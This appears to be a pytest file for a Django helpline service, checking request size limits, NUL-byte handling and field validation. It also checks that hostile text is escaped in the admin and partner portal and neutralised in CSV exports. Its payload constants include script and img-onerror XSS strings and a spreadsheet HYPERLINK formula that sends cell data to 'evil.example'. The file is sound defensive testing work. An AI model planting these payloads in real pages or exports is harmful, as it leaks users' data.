"""Input limits and hostile text: oversize bodies, too many fields, bad phones and ZIPs, script and formula text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.conf import settings
from django.test import Client

from helpline.models import AdmissionRequest
from tests.factories import FacilityFactory, PartnerUserFactory, StaffFactory
from tests.helpline.admission_support import api_data
from tests.helpline.voice_support import sign

pytestmark = pytest.mark.django_db

API = "/api/v1/admission-requests/"
SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'


def test_oversize_json_body_is_refused_before_it_is_read(client):
    FacilityFactory()
    body = json.dumps(api_data(first_name="Sam", notes="x" * (settings.MAX_REQUEST_BODY_BYTES + 1)))

    response = client.post(API, body, content_type="application/json")

    assert response.status_code == 413
    assert AdmissionRequest.objects.count() == 0


def test_oversize_twilio_webhook_is_refused(client):
    params = {"CallSid": "CA" + "1" * 32, "From": "+15125550123", "Padding": "x" * settings.MAX_REQUEST_BODY_BYTES}

    response = client.post(
        "/twilio/voice/incoming", params, headers={"X-Twilio-Signature": sign("/twilio/voice/incoming", params)}
    )

    assert response.status_code == 413


def test_a_normal_body_passes_and_a_bad_content_length_is_a_400(client):
    FacilityFactory()
    ok = client.post(API, api_data(), content_type="application/json", REMOTE_ADDR="198.51.100.4")
    assert ok.status_code == 201, ok.content

    bad = client.generic("POST", API, b"{}", content_type="application/json", CONTENT_LENGTH="12x")
    assert bad.status_code == 400


def test_too_many_form_fields_is_a_400(client):
    data = {f"f{i}": "1" for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    data.update(username="someone", password="whatever-123456")

    response = client.post("/portal/login/", data)

    assert response.status_code == 400


@pytest.mark.parametrize(
    ("who", "url"),
    [
        ("staff", "/admin/helpline/call/?status__exact=%00"),  # any list filter of the staff admin
        ("staff", "/admin/partners/partner/?q=a%00b"),
        ("partner", "/portal/calls/?billable=%00"),
        ("anyone", "/guides/?q=fentanyl%00"),
        ("anyone", "/?utm_source=%00"),
    ],
)
def test_a_nul_byte_in_the_query_string_is_dropped_not_a_server_error(who, url):
    """PostgreSQL cannot hold NUL in text: a filter or search value with one was a DataError, a 500."""
    client = Client()
    if who == "staff":
        client.force_login(StaffFactory(is_superuser=True))
    elif who == "partner":
        client.force_login(PartnerUserFactory())

    response = client.get(url)

    assert response.status_code == 200  # served as the same address without the NUL
    without = client.get(url.replace("%00", ""))
    assert without.status_code == 200
    assert response.wsgi_request.GET == without.wsgi_request.GET


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("phone", "123"),
        ("phone", "+44 20 7946 0958"),  # not a US number
        ("phone", "1-800-555-0100"),  # toll free cannot take the call
        ("phone", "555-CALL-NOW" * 5),
        ("zip_code", "ABCDE"),
        ("zip_code", "123"),
        ("zip_code", "00000"),
        ("first_name", SCRIPT),
        ("first_name", FORMULA),
        ("first_name", "x" * 500),
    ],
)
def test_api_rejects_malformed_input_with_a_field_error_and_saves_nothing(client, field, value):
    FacilityFactory()

    response = client.post(API, api_data(**{field: value}), content_type="application/json")

    assert response.status_code == 400, response.content
    assert field in response.json()
    assert AdmissionRequest.objects.count() == 0


@pytest.fixture
def hostile_request():
    """Hostile text that reached the database anyway (an older import, a staff note)."""
    from tests.factories import AdmissionRequestFactory

    facility = FacilityFactory(name=FORMULA)
    return AdmissionRequestFactory(
        first_name=SCRIPT,
        staff_note=f"{SCRIPT} <img src=x onerror=alert(1)>",
        partner=facility.partner,
        facility=facility,
    )


def _assert_escaped(html: str) -> None:
    assert SCRIPT not in html
    assert "<img src=x onerror" not in html
    assert "&lt;script&gt;alert(" in html


def test_script_text_is_escaped_in_the_staff_admin(hostile_request):
    staff = Client()
    staff.force_login(StaffFactory())

    change = staff.get(f"/{settings.ADMIN_URL}helpline/admissionrequest/{hostile_request.pk}/change/")
    listing = staff.get(f"/{settings.ADMIN_URL}helpline/admissionrequest/")

    assert change.status_code == 200 and listing.status_code == 200
    _assert_escaped(change.content.decode())


def test_script_text_is_escaped_in_the_partner_portal(hostile_request):
    partner = Client()
    partner.force_login(PartnerUserFactory(partner=hostile_request.partner))

    detail = partner.get(f"/portal/requests/{hostile_request.public_id}/")

    assert detail.status_code == 200
    _assert_escaped(detail.content.decode())


def test_formula_text_is_inert_in_csv_exports(hostile_request):
    partner = Client()
    partner.force_login(PartnerUserFactory(partner=hostile_request.partner))

    response = partner.get("/portal/requests/export.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    facility_cells = [row[rows[0].index("facility")] for row in rows[1:]]
    assert facility_cells == ["'" + FORMULA]
